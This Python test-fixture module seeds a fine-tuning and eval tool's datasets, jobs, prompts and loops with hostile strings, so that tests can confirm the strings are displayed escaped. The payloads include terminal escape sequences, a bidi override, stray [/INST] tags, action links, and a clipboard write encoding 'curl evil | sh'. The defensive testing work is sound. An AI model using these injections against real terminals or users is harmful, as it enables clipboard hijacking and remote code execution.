"""Hostile strings, and a store seeded with them in every field a user can bring in.

Each string is ordinary in real data (chat templates close `[/INST]`, drafts
close `[/draft]`), or what an attacker would put in a shared dataset, an eval
file from another repository or a provider's answer. What the tests expect to
see instead is `visible()` of it: the same characters, control characters as
visible escapes, no markup consumed.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

# Terminal payloads. Each is followed by a marker so a raw copy in the terminal
# stream is told apart from the app's own escape sequences.
OSC_TITLE = "\x1b]2;pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # "curl evil | sh"
CSI_CLEAR = "\x1b[2Jwiped"
C1_CSI = "\x9b2Jc1"
BIDI = "\u202eevil"
TERMINAL = (OSC_TITLE, OSC_CLIPBOARD, CSI_CLEAR, C1_CSI, BIDI)

# What must never reach the terminal stream raw.
RAW_BYTES = ("\x1b]2;pwned", "\x1b]52;c;Y3Vy", "\x1b[2Jwiped", "\x9b", "\u202e")

# Markup: plain tags, stray closing tags (a MarkupError when parsed), and action
# links that escape() lets through (a leading space, capitals).
MARKUP = "[b]bold[/b]"
STRAY = ("[/INST]", "[/draft]", "[/quote]")


def link(marker: str) -> str:
    """An action link whose click would write a screenshot named after the marker."""
    return f"[@click=app.screenshot('{marker}.svg')]{marker}[/]"


def link_spaced(marker: str) -> str:
    return f"[ @click=app.screenshot('{marker}.svg')]{marker}[/]"


def link_caps(marker: str) -> str:
    return f"[@CLICK=app.quit]{marker}[/]"


def hostile(tag: str, *, short: bool = False) -> str:
    """One field's hostile value: markup, a stray tag, a link, terminal payloads.

    `tag` names the field (it is part of every marker, so a failure says where);
    `short` keeps a name within the width of a list column.
    """
    if short:
        return f"{tag}[/draft]{link(tag + 'L')}{OSC_TITLE}{C1_CSI}"
    return (f"{tag} {MARKUP} [/INST] {link(tag + 'L')} {link_spaced(tag + 'S')} "
            f"{link_caps(tag + 'C')} {OSC_TITLE}{OSC_CLIPBOARD}{CSI_CLEAR}{C1_CSI}{BIDI}")


def markers(value: str) -> list[str]:
    """The link markers in a hostile value (what a click would land on)."""
    import re

    return re.findall(r"\](\w+)\[/\]", value)


# -- the fields ----------------------------------------------------------------
DATASET_NAME = hostile("dsname", short=True)
USER_TEXT = hostile("user")
ASSISTANT_TEXT = hostile("asst")
TOOL_NAME = hostile("tool", short=True)
JSON_KEY = hostile("key", short=True)
PROMPT_NAME = hostile("prompt", short=True)
EVAL_NAME = "support QA [/draft] " + hostile("evname", short=True)
GRADER_NAME = hostile("grader", short=True)
QUESTION = hostile("question")
MODEL_ID = "ft:" + hostile("model", short=True)
JOB_ERROR = "line 1: " + hostile("joberr")
EVENT_TEXT = hostile("event")
SUFFIX = hostile("suffix", short=True)
LOOP_NAME = hostile("loop", short=True)
LOOP_ERROR = hostile("looperr")
RAW_LINE = f"not json at all {OSC_TITLE} [/INST] {link('rawL')} {C1_CSI}"


def dataset_lines() -> list[str]:
    """A JSONL file: hostile messages, tool calls, a hostile key, a line that is not JSON."""
    good = {"messages": [
        {"role": "system", "content": "You help."},
        {"role": "user", "content": USER_TEXT},
        {"role": "assistant", "content": ASSISTANT_TEXT},
    ]}
    tools = {"messages": [
        {"role": "user", "content": "call it"},
        {"role": "assistant", "tool_calls": [{"id": "call_" + hostile("callid", short=True),
                                              "type": "function",
                                              "function": {"name": TOOL_NAME,
                                                           "arguments": json.dumps(
                                                               {"q": hostile("args")})}}]},
        {"role": "tool", "tool_call_id": "call_x", "content": hostile("toolout")},
        {"role": "assistant", "content": "done"},
    ]}
    keyed = {"messages": good["messages"], JSON_KEY: hostile("keyval", short=True)}
    # Valid JSON may hold C1 and bidi characters raw (JSON escapes only C0 controls).
    raw_c1 = json.dumps({"messages": [{"role": "user", "content": "raw " + C1_CSI + BIDI},
                                      {"role": "assistant", "content": "ok"}]},
                        ensure_ascii=False)
    lines = [json.dumps(good), json.dumps(tools), json.dumps(keyed), RAW_LINE, raw_c1]
    return lines + [json.dumps({"messages": [
        {"role": "user", "content": f"plain question {i}"},
        {"role": "assistant", "content": f"plain answer {i}"}]}) for i in range(9)]


def write_dataset(directory: Path) -> Path:
    path = directory / "hostile.jsonl"
    path.write_text("\n".join(dataset_lines()) + "\n", encoding="utf-8")
    return path


def eval_file(directory: Path) -> Path:
    """An eval whose name, grader name and items are hostile (sandbox-small echoes items)."""
    items = [{"item": {"question": QUESTION, "reference": "never"}},
             {"item": {"question": "plain", "reference": "plain"}}]
    definition = {
        "name": EVAL_NAME, "items": items, "model": "sandbox-small",
        "input_messages": {"type": "template", "template": [
            {"role": "user", "content": "{{item.question}}"}]},
        "testing_criteria": [{"type": "string_check", "name": GRADER_NAME,
                              "input": "{{sample.output_text}}",
                              "reference": "{{item.reference}}", "operation": "eq"}],
    }
    path = directory / "hostile.eval.json"
    path.write_text(json.dumps(definition), encoding="utf-8")
    return path


def job(i: int, status: str, profile_model: str = "sandbox-small", **extra: Any) -> dict:
    base = {"id": f"ftjob-hostile{i}", "object": "fine_tuning.job", "status": status,
            "model": profile_model, "created_at": 1_767_225_600 - i * 60,
            "fine_tuned_model": None, "finished_at": None, "trained_tokens": None,
            "training_file": f"file-{i}", "validation_file": None, "result_files": [],
            "error": None, "seed": 7, "estimated_finish": None,
            "method": {"type": "supervised", "supervised": {"hyperparameters": {
                "n_epochs": 1}}}}
    base.update(extra)
    return base


def seed_jobs(store: Any, profile: str, version_id: int | None = None) -> dict[str, int]:
    """Jobs as a provider could describe them: hostile error, events, model ids, suffix."""
    failed = store.jobs.upsert(profile, job(
        1, "failed", finished_at=1_767_225_000, suffix=SUFFIX,
        error={"code": "invalid_training_file", "param": "training_file",
               "message": JOB_ERROR}), training_version_id=version_id)
    store.jobs.add_events(failed.id, [
        {"id": f"ev-{n}", "created_at": 1_767_225_000 + n, "level": "error", "type": "message",
         "message": EVENT_TEXT} for n in range(3)])
    store.jobs.add_checkpoints(failed.id, [{
        "id": "ftckpt-h1", "step_number": 1, "created_at": 1_767_225_001,
        "fine_tuned_model_checkpoint": MODEL_ID + ":ckpt",
        "metrics": {"train_loss": 0.5}}])
    store.jobs.save_result_file(failed.id, "file-result", "step,train_loss\n1," + hostile("csv"))
    done = store.jobs.upsert(profile, job(
        2, "succeeded", fine_tuned_model=MODEL_ID, finished_at=1_767_225_100,
        trained_tokens=100), training_version_id=version_id, estimated_cost_usd=0.5)
    odd = store.jobs.upsert(profile, job(3, hostile("status", short=True),
                                         finished_at=1_767_225_200))
    return {"failed": failed.id, "succeeded": done.id, "odd": odd.id}


def seed_prompts(store: Any, profile: str) -> None:
    """A saved prompt with a hostile name, and a playground run whose answer is hostile."""
    version = store.prompts.save(PROMPT_NAME, [{"role": "user", "content": USER_TEXT}],
                                 model="sandbox-small")
    run_id = store.prompts.start_run(profile=profile, model=MODEL_ID,
                                     input=[{"role": "system", "content": hostile("system")},
                                            {"role": "user", "content": USER_TEXT}],
                                     prompt_version_id=version.id)
    store.prompts.finish_run(run_id, status="completed", output_text=ASSISTANT_TEXT,
                             error=hostile("runerr"), cost_usd=0.01)


def seed_loop(store: Any, profile: str, eval_id: int, version_id: int, job_id: int) -> int:
    loop = store.loops.create(name=LOOP_NAME, profile=profile, base_model="sandbox-small",
                              eval_id=eval_id, training_version_id=version_id)
    store.loops.update(loop.id, stage="failed", job_id=job_id, error=LOOP_ERROR)
    return loop.id
